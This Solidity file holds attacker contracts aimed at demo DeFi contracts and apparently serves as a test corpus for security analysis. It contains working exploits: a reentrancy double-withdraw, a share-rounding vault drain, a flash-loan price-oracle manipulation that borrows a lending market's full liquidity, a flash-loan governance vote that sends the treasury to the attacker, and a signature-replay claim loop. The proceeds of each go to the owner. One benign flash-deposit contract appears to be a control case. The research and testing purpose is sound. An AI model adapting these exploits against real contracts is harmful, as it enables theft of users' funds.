// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {DemoAMM} from "../examples/DemoAMM.sol";
import {DemoToken} from "../examples/DemoToken.sol";
import {CorpusBank} from "./CorpusBank.sol";
import {CorpusDistributor} from "./CorpusDistributor.sol";
import {CorpusFlashLender, ICorpusFlashBorrower} from "./CorpusFlashLender.sol";
import {CorpusGovernor} from "./CorpusGovernor.sol";
import {CorpusLending} from "./CorpusLending.sol";
import {CorpusVault} from "./CorpusVault.sol";

/// @dev Owner-only, proceeds forwarded to the owner at the end of each call.
abstract contract CorpusOwned {
    address public immutable owner;
    bytes32 internal constant FLASH_OK = keccak256("ERC3156FlashBorrower.onFlashLoan");

    error NotOwner();

    constructor() {
        owner = msg.sender;
    }

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner();
        _;
    }

    function _sweep(DemoToken token) internal {
        uint256 balance = token.balanceOf(address(this));
        if (balance != 0) token.transfer(owner, balance);
    }
}

/// @title CorpusReentrancyAttacker
/// @notice Deposits, then withdraws the same deposit again from inside the bank's payout hook.
contract CorpusReentrancyAttacker is CorpusOwned {
    CorpusBank public immutable bank;
    uint256 private _amount;
    uint256 private _rounds;

    constructor(CorpusBank bank_) {
        bank = bank_;
        bank_.token().approve(address(bank_), type(uint256).max);
    }

    function attack(uint256 amount, uint256 rounds) external onlyOwner {
        DemoToken token = bank.token();
        token.transferFrom(msg.sender, address(this), amount);
        bank.deposit(amount);
        _amount = amount;
        _rounds = rounds;
        bank.withdraw(amount);
        _sweep(token);
    }

    function onBankPayout(uint256) external {
        if (msg.sender != address(bank) || _rounds == 0) return;
        _rounds -= 1;
        if (bank.token().balanceOf(address(bank)) >= _amount) bank.withdraw(_amount);
    }
}

/// @title CorpusRoundingAttacker
/// @notice Many withdrawals each worth less than one share: each burns zero shares.
contract CorpusRoundingAttacker is CorpusOwned {
    CorpusVault public immutable vault;

    constructor(CorpusVault vault_) {
        vault = vault_;
    }

    /// @notice `calls` withdrawals, each of just under one share's current worth.
    function drain(uint256 calls) external onlyOwner {
        for (uint256 i = 0; i < calls; i++) {
            uint256 perShare = vault.totalAssets() / vault.totalSupply();
            if (perShare <= 1) break;
            vault.withdraw(perShare - 1);
        }
        _sweep(vault.asset());
    }
}

/// @title CorpusOracleAttacker
/// @notice One transaction: flash-borrow USDd, pump the AMM's WETHd price, post a little WETHd,
/// borrow all the market's USDd against its inflated value, dump the WETHd, repay the loan.
contract CorpusOracleAttacker is CorpusOwned {
    CorpusLending public immutable market;
    CorpusFlashLender public immutable lender;

    constructor(CorpusLending market_, CorpusFlashLender lender_) {
        market = market_;
        lender = lender_;
        DemoAMM amm = market_.amm();
        market_.debtToken().approve(address(amm), type(uint256).max);
        market_.collateralToken().approve(address(amm), type(uint256).max);
        market_.collateralToken().approve(address(market_), type(uint256).max);
        market_.debtToken().approve(address(lender_), type(uint256).max);
    }

    function attack(uint256 pump) external onlyOwner {
        lender.flashLoan(ICorpusFlashBorrower(address(this)), address(market.debtToken()), pump, "");
        _sweep(market.debtToken());
        _sweep(market.collateralToken());
    }

    function onFlashLoan(address, address, uint256 amount, uint256, bytes calldata) external returns (bytes32) {
        if (msg.sender != address(lender)) revert NotOwner();
        DemoAMM amm = market.amm();
        DemoToken usd = market.debtToken();
        DemoToken weth = market.collateralToken();
        uint256 bought = amm.swapExactIn(address(usd), amount, 0);
        uint256 take = market.liquidity();
        uint256 needed = (take * 1e18 * 10_000) / (amm.spotPrice() * market.LTV_BPS()) + 1;
        market.postCollateral(needed);
        market.borrow(take);
        amm.swapExactIn(address(weth), bought - needed, 0);
        return FLASH_OK;
    }
}

/// @title CorpusGovAttacker
/// @notice One transaction: flash-borrow a majority of the vote token, execute a treasury
/// transfer to itself, repay.
contract CorpusGovAttacker is CorpusOwned {
    CorpusGovernor public immutable governor;
    CorpusFlashLender public immutable lender;
    DemoToken public immutable treasuryToken;

    constructor(CorpusGovernor governor_, CorpusFlashLender lender_, DemoToken treasuryToken_) {
        governor = governor_;
        lender = lender_;
        treasuryToken = treasuryToken_;
        governor_.votes().approve(address(lender_), type(uint256).max);
    }

    function attack(uint256 borrowedVotes) external onlyOwner {
        DemoToken votes = governor.votes();
        votes.transferFrom(msg.sender, address(this), lender.flashFee(address(votes), borrowedVotes));
        lender.flashLoan(ICorpusFlashBorrower(address(this)), address(votes), borrowedVotes, "");
        _sweep(treasuryToken);
        _sweep(votes);
    }

    function onFlashLoan(address, address, uint256, uint256, bytes calldata) external returns (bytes32) {
        if (msg.sender != address(lender)) revert NotOwner();
        uint256 all = treasuryToken.balanceOf(address(governor));
        governor.execute(address(treasuryToken), abi.encodeCall(DemoToken.transfer, (address(this), all)));
        return FLASH_OK;
    }
}

/// @title CorpusReplayAttacker
/// @notice Replays one signed claim many times in one transaction.
contract CorpusReplayAttacker is CorpusOwned {
    CorpusDistributor public immutable distributor;

    constructor(CorpusDistributor distributor_) {
        distributor = distributor_;
    }

    function replay(address account, uint256 amount, uint256 nonce, uint8 v, bytes32 r, bytes32 s, uint256 times)
        external
        onlyOwner
    {
        for (uint256 i = 0; i < times; i++) {
            distributor.claimBySig(account, address(this), amount, nonce, v, r, s);
        }
        _sweep(distributor.token());
    }
}

/// @title CorpusFlashDepositor
/// @notice A legitimate zap: deposit into the bank and withdraw it again in one transaction
/// (a whale's flash deposit, e.g. to prove liquidity or to rebalance).
contract CorpusFlashDepositor is CorpusOwned {
    CorpusBank public immutable bank;

    constructor(CorpusBank bank_) {
        bank = bank_;
        bank_.token().approve(address(bank_), type(uint256).max);
    }

    function depositAndWithdraw(uint256 amount) external onlyOwner {
        DemoToken token = bank.token();
        token.transferFrom(msg.sender, address(this), amount);
        bank.deposit(amount);
        bank.withdraw(amount);
        _sweep(token);
    }
}
